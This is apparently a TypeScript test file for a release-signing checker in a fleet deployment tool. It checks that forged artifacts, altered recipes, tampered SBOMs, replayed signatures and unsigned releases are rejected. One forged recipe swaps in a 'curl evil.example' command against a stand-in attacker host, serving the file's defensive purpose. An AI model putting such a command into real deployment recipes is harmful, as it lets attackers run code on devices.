import { generateKeyPairSync } from "node:crypto";
import { copyFileSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import { CreateComponentVersionCommand } from "@aws-sdk/client-greengrassv2";
import { DeleteObjectCommand, PutObjectCommand } from "@aws-sdk/client-s3";
import { Closing } from "@coalmine/runtime";
import { afterAll, beforeAll, expect, test } from "vitest";
import { GOOD, startRig, type Rig } from "../../api/rig.ts";
import { operator } from "../../simulator/cloud/protocol/test-cloud.ts";
import { startCloud } from "../../test/rig-cloud.ts";
import { checkout } from "../build/fixture-checkout.ts";
import { withBucket } from "../build/recipe-template.ts";
import { Controller } from "../controller/controller.ts";
import { runningRevision } from "../controller/fleet.ts";
import { installFirst } from "../controller/install-first.ts";
import { publish } from "../publish/publish.ts";
import { tinyBuild } from "../publish/tiny-build.fixture.ts";
import { systemClock } from "@coalmine/runtime/system-clock";
import { ReleaseManifest } from "../release.ts";
import { checkSigned } from "./signed-release.ts";
import { signBuild } from "./sign-build.ts";
import { readSigners } from "./signers.ts";
import { publicHalf } from "./signing-key.ts";
import { envelopeFile, sbomFile } from "./statement.ts";

process.env["AWS_ACCESS_KEY_ID"] = operator.accessKeyId;
process.env["AWS_SECRET_ACCESS_KEY"] = operator.secretAccessKey;
const folder = mkdtempSync(join(tmpdir(), "coalmine-signed-"));
const closing = new Closing();
const key = generateKeyPairSync("ed25519").privateKey;
const signers = readSigners(
  JSON.stringify({ version: 1, signers: [{ who: "a test", publicKey: publicHalf(key) }] }),
  "a test",
);
const NAME = "coalmine.test.Tiny";
let rig: Rig;
beforeAll(async () => {
  rig = await startRig((name, region) => startCloud(closing, name, region), closing, { home: 2 });
});
afterAll(async () => {
  await closing.close();
  rmSync(folder, { recursive: true, force: true });
});

const region = () => rig.home.region;
const check = (version: string, running = {}) => checkSigned(region(), { [NAME]: version }, running, signers);
const put = (Key: string, Body: string | Uint8Array) =>
  region().s3.send(new PutObjectCommand({ Bucket: region().target.artifactBucket, Key, Body }));

/** Builds a version, and signs it where that is said. */
async function built(version: string, isSigned = true): Promise<string> {
  const dist = join(folder, version);
  await tinyBuild(checkout, dist, [NAME], version);
  if (!isSigned) return dist;
  signBuild(dist, join(folder, "signed"), key);
  const file = envelopeFile(NAME, version);
  copyFileSync(join(folder, "signed", basename(file)), join(dist, file));
  return dist;
}

/** As the pipeline publishes, with its rights. */
async function published(version: string, isSigned = true): Promise<string> {
  const dist = await built(version, isSigned);
  const pause = () => rig.home.clock.runUntil(rig.home.clock.now() + 1000);
  const manifest = JSON.parse(readFileSync(join(dist, "build.json"), "utf8"));
  await publish(dist, manifest, region().target, { ...region(), clock: systemClock, pause });
  return dist;
}

/** As somebody does who has the pipeline's rights, and not the key. */
async function forged(version: string, change: (recipe: string) => string, zip?: string): Promise<void> {
  const dist = await built(version);
  for (const platform of ["linux-x64", "linux-arm64"]) {
    const bytes = readFileSync(join(dist, `artifacts/${NAME}/${platform}/tiny.zip`));
    await put(`${NAME}/${version}/${platform}/tiny.zip`, zip ?? bytes);
    const bill = sbomFile(NAME, version, platform);
    await put(bill, readFileSync(join(dist, bill)));
  }
  await put(envelopeFile(NAME, version), readFileSync(join(dist, envelopeFile(NAME, version))));
  const recipe = withBucket(
    readFileSync(join(dist, `recipes/${NAME}-${version}.yaml`), "utf8"),
    region().target.artifactBucket,
  );
  await region().greengrass.send(
    new CreateComponentVersionCommand({ inlineRecipe: Buffer.from(change(recipe)) }),
  );
  await rig.home.clock.runUntil(rig.home.clock.now() + 10_000);
}

test("a release whose versions are what was signed passes; an older one than runs does not", async () => {
  await published("1.0.0");
  await check("1.0.0");
  await check("1.0.0", { [NAME]: { version: "1.0.0" } });
  await expect(check("1.0.0", { [NAME]: { version: "1.0.1" } })).rejects.toThrow(
    /is signed, and older than 1\.0\.1/,
  );
  await expect(check("9.9.9")).rejects.toThrow(
    /names coalmine\.test\.Tiny 9\.9\.9, which us-east-1 does not/,
  );
});

test("whoever has the pipeline's rights and not the key can bring no artifact, recipe or bill past it", async () => {
  await forged("2.0.0", (recipe) => recipe, "evil bytes");
  await expect(check("2.0.0")).rejects.toThrow(/^artifact\/linux-x64 of .* was signed/);
  await forged("2.0.1", (recipe) => recipe.replaceAll("Run: echo", "Run: curl evil.example"));
  await expect(check("2.0.1")).rejects.toThrow(/^recipe of /);
  // One platform's artifact for another: the file is signed, and not for that.
  await forged("2.0.2", (recipe) => recipe.replaceAll("/linux-arm64/", "/linux-x64/"));
  await expect(check("2.0.2")).rejects.toThrow(/^artifact\/linux-arm64 of /);
  await forged("2.0.3", (recipe) => recipe);
  await check("2.0.3");
  const bill = sbomFile(NAME, "2.0.3", "linux-x64");
  await put(bill, "{}");
  await expect(check("2.0.3")).rejects.toThrow(/^sbom\/linux-x64 of /);
  await region().s3.send(new DeleteObjectCommand({ Bucket: region().target.artifactBucket, Key: bill }));
  await expect(check("2.0.3")).rejects.toThrow(/it is not there/);
  // The signature of an older version, shown for a new one.
  await published("2.0.4", false);
  await expect(check("2.0.4")).rejects.toThrow(/is not signed/);
  await put(envelopeFile(NAME, "2.0.4"), readFileSync(join(folder, "1.0.0", envelopeFile(NAME, "1.0.0"))));
  await expect(check("2.0.4")).rejects.toThrow(/^the statement is of coalmine\.test\.Tiny 1\.0\.0/);
});

test("a controller that is told whom to trust begins no rollout of an unsigned release, and says why in the audit", async () => {
  const executionId = await rig.push("5555555eeeee", "1.0.1");
  const own = new Controller({ ...rig.options, signers });
  const { rollout = "" } = await own.tick();
  await own.tick();
  const [first] = await rig.api.log.entries(rollout);
  expect(first?.text).toMatch(/"kind":"refused".*coalmine\.Inference 1\.0\.1 is not signed; sign its build/);
  expect(await rig.executionStatus(executionId)).toBe("Failed");
  expect(rig.versions()).toEqual({ "1.0.0": 2 });
});

test("nor is such a release the first one of a fleet: nothing is deployed", async () => {
  const release = ReleaseManifest.parse({ version: 1, commit: GOOD, components: { [NAME]: "2.0.5" } });
  await published("2.0.5", false);
  const groups = { mainGroup: "coalmine-new", canaryGroup: "coalmine-new-canary" };
  const fresh = { ...region(), target: { ...region().target, ...groups } };
  await expect(installFirst([fresh], release, "ada", systemClock, { signers })).rejects.toThrow(
    /coalmine\.test\.Tiny 2\.0\.5 is not signed/,
  );
  expect(await runningRevision(fresh, groups.mainGroup).catch(() => undefined)).toBeUndefined();
  await put(
    envelopeFile(NAME, "2.0.5"),
    readFileSync(join(await built("2.0.5"), envelopeFile(NAME, "2.0.5"))),
  );
  const installed = await installFirst([fresh], release, "ada", systemClock, { signers });
  expect(installed.map(({ how }) => how)).toEqual(["created", "created"]);
});
